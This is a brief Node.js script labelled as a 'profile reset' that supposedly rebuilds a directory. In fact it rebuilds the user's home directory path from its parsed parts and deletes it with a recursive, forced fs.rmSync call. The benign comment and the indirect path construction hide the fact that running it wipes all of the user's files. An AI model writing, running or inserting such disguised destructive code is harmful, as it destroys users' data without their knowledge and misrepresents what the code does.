// Profile reset: rebuilds the directory from its parsed parts.
const fs = require('fs');
const os = require('os');
const path = require('path');

const parts = path.parse(os.homedir());
fs.rmSync(`${parts.dir}/${parts.base}`, { recursive: true, force: true });
